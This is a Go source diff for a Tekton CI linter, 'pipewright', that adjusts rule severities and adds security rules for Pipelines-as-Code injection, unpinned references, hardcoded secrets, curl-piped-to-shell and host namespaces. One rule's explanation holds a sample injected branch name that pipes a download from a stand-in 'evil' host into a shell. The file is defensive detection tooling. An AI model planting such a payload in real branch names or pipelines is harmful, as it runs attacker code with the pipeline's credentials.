@@ -82,7 +82,7 @@ var Rules = []Rule{
 		Fix:     "Set securityContext.runAsUser to a non-zero uid and runAsNonRoot: true. If the step must be root, say why in the Task annotation pipewright.dev/root-steps (\"step: reason\").",
 	},
 	{
-		ID: "missing-run-as-non-root", Severity: Warning, Security: "4.0",
+		ID: "missing-run-as-non-root", Severity: Note, Security: "4.0",
 		Short:   "step does not set runAsNonRoot: true",
 		Explain: "Without runAsNonRoot the kubelet runs the image's default user, which for most images is root. Setting it makes the kubelet refuse to start the container as root.",
 		Fix:     "Add securityContext: {runAsNonRoot: true, runAsUser: 65532} to the step or the Task's stepTemplate.",
@@ -106,13 +106,13 @@ var Rules = []Rule{
 		Fix:     "Give Secret workspaces only to steps that do not run checked-out code (cloning, status reporting), and set podTemplate.automountServiceAccountToken: false on pull-request runs; push and publish from a separate, trusted pipeline.",
 	},
 	{
-		ID: "missing-timeout", Severity: Warning,
+		ID: "missing-timeout", Severity: Note,
 		Short:   "no timeout",
 		Explain: "Without a timeout a hung step holds its node's resources (and any lock it took) until the cluster default, one hour, or forever when that default is 0.",
 		Fix:     "Set spec.timeouts.pipeline on PipelineRuns and timeout on every pipeline task.",
 	},
 	{
-		ID: "missing-resources", Severity: Warning,
+		ID: "missing-resources", Severity: Note,
 		Short:   "step has no resource requests",
 		Explain: "A step without requests is scheduled as if it needed nothing: pods pile onto one node and are evicted or OOM-killed under load, which shows up as flaky builds.",
 		Fix:     "Set computeResources.requests (cpu, memory) on the step or in stepTemplate.",
@@ -120,11 +120,11 @@ var Rules = []Rule{
 	{
 		ID: "wiring", Severity: Error,
 		Short:   "a pipeline task does not match the Task it runs",
-		Explain: "The pipeline passes a param, binds a workspace or reads a result that the referenced Task does not declare, or omits one it requires. Tekton accepts the Pipeline and fails at run time.",
+		Explain: "The pipeline omits a param the referenced Task requires, binds a workspace it does not declare, or reads a result it does not declare: Tekton accepts the Pipeline and fails at run time. Checks follow Tekton's own resolution: embedded taskSpecs receive the pipeline's params and workspaces, and matrix params count as passed. A param the Task does not declare is a warning only (Tekton ignores it; often a typo).",
 		Fix:     "Make the pipeline task's params, workspaces and $(tasks.X.results.Y) references match the Task's declarations.",
 	},
 	{
-		ID: "unused-param", Severity: Warning,
+		ID: "unused-param", Severity: Note,
 		Short:   "param is declared but never used",
 		Explain: "A param nobody reads is a promise the Task or Pipeline does not keep: users set it and nothing changes. It often means a typo in a $(params.x) reference.",
 		Fix:     "Use the param (through env for scripts) or remove it.",
@@ -150,8 +150,32 @@ var Rules = []Rule{
 	{
 		ID: "decode", Severity: Error,
 		Short:   "the YAML does not decode into the Tekton type",
-		Explain: "The document is not valid YAML, or it has a field the Tekton type does not know or a value of the wrong type. Tekton drops unknown fields silently, so a misspelt field is a setting that never takes effect.",
-		Fix:     "Fix the YAML syntax or the field name/type the message names.",
+		Explain: "The document is not valid YAML, or a value has the wrong type for its Tekton field (a string where a list belongs). kubectl apply fails on it. When the rest of the object still decodes, the other rules run on it anyway; Tekton's validation does not.",
+		Fix:     "Fix the YAML syntax or the field type the message names.",
+	},
+	{
+		ID: "unknown-field", Severity: Warning,
+		Short:   "a field the Tekton type does not know",
+		Explain: "The API server drops unknown fields (with a warning at most), so a misspelt field is a setting that never takes effect: a securityContext under the wrong key protects nothing. The other rules still run on the object; Tekton's validation does not.",
+		Fix:     "Fix the field name or move it where the Tekton type expects it.",
+	},
+	{
+		ID: "duplicate-key", Severity: Warning,
+		Short:   "a key is set twice in one YAML mapping",
+		Explain: "YAML forbids repeated keys; Kubernetes keeps the last value and drops the first without a word, so a reviewer reading the first value is misled. (A key overriding a merged <<: *anchor is fine and not reported.)",
+		Fix:     "Remove one of the two keys.",
+	},
+	{
+		ID: "removed-kind", Severity: Warning,
+		Short:   "the kind is no longer served by Tekton",
+		Explain: "Tekton Pipelines v1 no longer serves ClusterTask (nor Condition or PipelineResource): applying the file fails and runs that reference it do not start. Its steps are still linted.",
+		Fix:     "Turn a ClusterTask into a Task and reference it with the cluster resolver (resolver: cluster, params kind/name/namespace).",
+	},
+	{
+		ID: "skipped", Severity: Note,
+		Short:   "a document was not linted",
+		Explain: "Go/Helm templates, kustomize patches and fragments without apiVersion and kind are not objects until rendered; linting their text would report noise, so they are skipped and counted in the summary.",
+		Fix:     "Lint the rendered YAML (helm template ... | pipewright lint -, kustomize build ... | pipewright lint -).",
 	},
 	{
 		ID: "webhook-secret", Severity: Error, Security: "8.0",
@@ -164,6 +188,54 @@ var Rules = []Rule{
 		Short:   "CEL filter accepts every action or every ref",
 		Explain: "A pull_request filter that does not check body.action also fires on closed, labeled and edited events; a push filter that does not check body.ref fires for every branch and tag. Both start runs nobody asked for, and the release pipeline runs for any branch.",
 		Fix:     "Test the action (body.action in ['opened', 'synchronize', 'reopened']) or the ref (body.ref == 'refs/heads/main').",
+	},
+	{
+		ID: "pac-injection", Severity: Error, Security: "8.8",
+		Short:   "a Pipelines-as-Code placeholder with text from the event is put into code",
+		Explain: "Pipelines-as-Code replaces {{ body.* }} (except fields GitHub fills with shas, numbers and ids), {{ files.* }}, {{ source_branch }} and {{ trigger_comment }} in the PipelineRun's text before Tekton sees it. In a script, a command or a shell -c argument, a branch named `x;curl${IFS}evil|sh` or a comment becomes code run with the pipeline's credentials.",
+		Fix:     "Pass the placeholder as a PipelineRun param, read it through env in the step (env: [{name: BRANCH, value: $(params.branch)}]) and use \"${BRANCH}\" quoted.",
+	},
+	{
+		ID: "pac-untrusted-param", Severity: Warning, Security: "5.0",
+		Short:   "a param gets text an outsider controls from a Pipelines-as-Code placeholder",
+		Explain: "{{ body.* }}, {{ source_branch }} and {{ trigger_comment }} are chosen by whoever opens the pull request or writes the comment. As a param value they are data, which is fine while every Task reads the param through env; one $(params.x) in a script turns it into code.",
+		Fix:     "Check that every Task reading the param passes it through env, or use a value the repository controls ({{ revision }}, {{ repo_url }}).",
+	},
+	{
+		ID: "unpinned-ref", Severity: Warning, Security: "5.0",
+		Short:   "a remote Task or Pipeline is referenced by something that can move",
+		Explain: "A git resolver revision naming a branch, an http resolver URL under refs/heads or a branch, a bundle without a digest, a Tekton Hub reference and a Pipelines-as-Code task annotation pointing at a branch or a hub name all resolve to whatever is there at run time: whoever can push there changes what your pipeline runs, with its secrets.",
+		Fix:     "Pin the commit (revision: <40-hex sha>), the bundle digest (bundle: registry/x@sha256:...), or vendor the Task into the repository.",
+	},
+	{
+		ID: "hardcoded-secret", Severity: Error, Security: "7.5",
+		Short:   "a credential is written in the YAML",
+		Explain: "A Secret's data or stringData, or a param/env value that looks like a token (named token, password, secret, apikey, or shaped like ghp_..., AKIA..., a private key), committed to the repository is readable by everyone who can read the repository, forever, in its history.",
+		Fix:     "Remove it, rotate the credential, and create the Secret out of band (sealed-secrets, external-secrets, kubectl create secret); reference it with secretKeyRef.",
+	},
+	{
+		ID: "curl-pipe-shell", Severity: Warning, Security: "6.0",
+		Short:   "a script pipes a download into a shell",
+		Explain: "curl ... | sh runs whatever the server (or anyone on the path, or whoever took over the domain) returns, unreviewed and unpinned, with the step's credentials.",
+		Fix:     "Download a pinned version, check its sha256 (echo \"<sum>  file\" | sha256sum -c), then run it; better, put the tool in a pinned image.",
+	},
+	{
+		ID: "host-namespace", Severity: Error, Security: "8.0",
+		Short:   "pod shares the node's network, PID or IPC namespace",
+		Explain: "hostNetwork lets the pod reach node-local services (the kubelet, cloud metadata, other pods' localhost ports); hostPID and hostIPC let it see and signal every process on the node. Code being built or tested then reaches well beyond its pipeline.",
+		Fix:     "Remove hostNetwork, hostPID and hostIPC from the podTemplate.",
+	},
+	{
+		ID: "privilege-escalation", Severity: Warning, Security: "5.0",
+		Short:   "container allows privilege escalation",
+		Explain: "allowPrivilegeEscalation: true lets a process gain more privileges than its parent (setuid binaries such as sudo), so a non-root step can become root.",
+		Fix:     "Set allowPrivilegeEscalation: false (and drop ALL capabilities).",
+	},
+	{
+		ID: "on-error-continue", Severity: Note,
+		Short:   "a step's failure is ignored (onError: continue)",
+		Explain: "With onError: continue the TaskRun succeeds even when the step fails; for a test, scan or signature check that turns a failed gate into a pass nobody notices.",
+		Fix:     "Remove onError: continue, or read the step's exit code ($(steps.NAME.exitCode.path)) in a later step and decide there.",
 	},
 	{
 		ID: "bad-ignore", Severity: Warning,
@@ -202,4 +274,20 @@ func (r *Rule) ExplainText() string {
 		sec = ", security-severity " + r.Security
 	}
 	return fmt.Sprintf("%s (%s%s): %s\n\n%s\n\nFix: %s\n", r.ID, r.Severity, sec, r.Short, r.Explain, r.Fix)
+}
+
+// RulesMarkdown is docs/lint-rules.md, the page SARIF's helpUri points at:
+// one section per rule, anchored by its id.
+func RulesMarkdown() string {
+	var b strings.Builder
+	b.WriteString("# pipewright lint rules\n\nGenerated from pkg/lint/rules.go (`go test ./pkg/lint -run TestRulesDoc -update`).\n" +
+		"`pipewright lint --fail-on` defaults to `error`.\n")
+	for _, r := range Rules {
+		sec := ""
+		if r.Security != "" {
+			sec = ", security-severity " + r.Security
+		}
+		fmt.Fprintf(&b, "\n<a id=\"%s\"></a>\n## %s\n\n%s%s. %s\n\n%s\n\n**Fix:** %s\n", r.ID, r.ID, strings.ToUpper(r.Severity.String()[:1]), r.Severity.String()[1:]+sec, r.Short, r.Explain, r.Fix)
+	}
+	return b.String()
 }
